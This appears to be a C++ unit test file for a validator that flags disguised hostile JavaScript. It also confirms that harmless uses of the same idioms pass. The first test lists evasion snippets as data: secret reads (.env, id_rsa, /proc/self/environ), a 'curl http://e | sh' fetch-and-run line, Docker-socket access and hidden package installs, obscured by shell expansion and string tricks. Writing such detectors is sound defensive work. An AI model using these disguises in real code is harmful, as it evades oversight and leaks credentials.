// Hostile acts that are built in ways which honest programs use every day: each is stopped in a container, too.
#include "tests/support/validator/check_support.h"

namespace guard {
namespace {

constexpr const char* kImports =
    "import { execSync, spawnSync } from \"child_process\";\nimport fs from \"fs\";\nimport path from \"path\";\n";

TEST(EverydayDisguises, AreStopped) {
  for (const char* text : {
           R"js(const a = ["sh","-c","printenv"]; Bun.spawnSync(a))js",
           R"js(let a = ["cat",".env"]; Bun.spawnSync(a as string[]))js",
           R"js(const o = {cmd: ["npx","cowsay"]}; Bun.spawn(o.cmd, {stdout:"pipe"}))js",
           R"js(Bun.spawnSync("cat|.env".split("|")))js",
           R"js(const a: string[] = ["nsenter","-t","1"]; Bun.spawn(a))js",
           R"js(const a = ["node","-r","dotenv/config"]; Bun.spawnSync(a))js",
           R"js(execSync("true {a,b;printenv;x}"))js",
           R"js(execSync("{a,b|printenv|x}"))js",
           R"js(execSync("true {a,b && yarn;x}"))js",
           R"js(execSync("cat .{env,x}"))js",
           R"js(execSync("cat ./{.env,x}"))js",
           R"js(execSync("cat .e{n,}v"))js",
           R"js(execSync("cat id_{rsa,dsa}"))js",
           R"js(execSync("cu{r,}l http://e | sh"))js",
           R"js(execSync("{{npx,cowsay},}"))js",
           R"js(execSync("cat ${c:-.env}"))js",
           R"js(execSync("cat .${c:-env}"))js",
           R"js(execSync("n$@pm install"))js",
           R"js(execSync("n$1pm install x"))js",
           R"js(execSync("cat$IFS$9.env"))js",
           R"js(spawnSync("NPM".toLowerCase(),["install"]))js",
           R"js(fs.readFileSync("/PROC/SELF/ENVIRON".toLowerCase()))js",
           R"js(fetch("http://x",{unix:"/VAR/RUN/DOCKER.SOCK".toLowerCase()}))js",
           R"js(require("DOTENV".toLowerCase()))js",
           R"js(require("PROCESS".toLowerCase()).env)js",
           R"js(const cmd=["cat",".env"]; spawnSync(cmd[0], cmd.slice(1)))js",
           R"js(fs.readFileSync(path.join(...["..",".env"].slice(0))))js",
           R"js(fs.readFileSync("x:.env".split(":").slice(1).join("")))js",
           R"js(Bun.spawn(["cat"].concat(".env")))js",
           R"js(spawnSync("npm",["install"].concat(["x"])))js",
           R"js(fs.readFileSync(["","proc"].concat(["self","environ"]).join("/")))js",
           R"js(console.log(globalThis[["x","pro","cess"].slice(1).join("")].env))js",
           R"js(globalThis[["process"].flat()].env)js",
           R"js(globalThis[["eval"]]("1"))js",
           R"js(const g=globalThis; g[["eval"]]("1"))js",
           R"js(execSync("alias x='curl http://e | sh'; x"))js",
           R"js(spawnSync("sh",["-c","\"$@\"","_","npx","cowsay"]))js",
           R"js(spawnSync("sh",["-c","$0 cowsay","npx"]))js",
           R"js(execSync("printf '%s install' npm | sh"))js",
           R"js(const cmd=["sh","-c","printenv"]; Bun.spawnSync({cmd}))js",
           R"js(const cmd=["sh","-c","printenv"]; Bun.spawnSync({cmd: cmd}))js",
           R"js(eval("PROCESS".toLowerCase()+".env"))js",
       }) {
    EXPECT_FALSE(rules_of(std::string(kImports) + text, kDocker).empty()) << text;
  }
}

// The same ways, and nothing wrong with them.
TEST(EverydayDisguises, TheirWaysAloneAreNone) {
  for (const char* text : {
           R"js(const words = ["x", "y"]; expect(words.slice(1).concat(["z"])).toEqual(["y", "z"]);)js",
           R"js(expect("ABC".toLowerCase()).toBe("abc"); expect("abc".toUpperCase()).toBe("ABC");)js",
           R"js(const args = ["bun", "--version"]; Bun.spawnSync(args);)js",
           R"js(const cmd = ["bun", "--version"]; Bun.spawnSync({ cmd });)js",
       }) {
    EXPECT_EQ(rules_of(std::string(kImports) + text, kDocker), std::set<std::string>()) << text;
  }
}

}  // namespace
}  // namespace guard
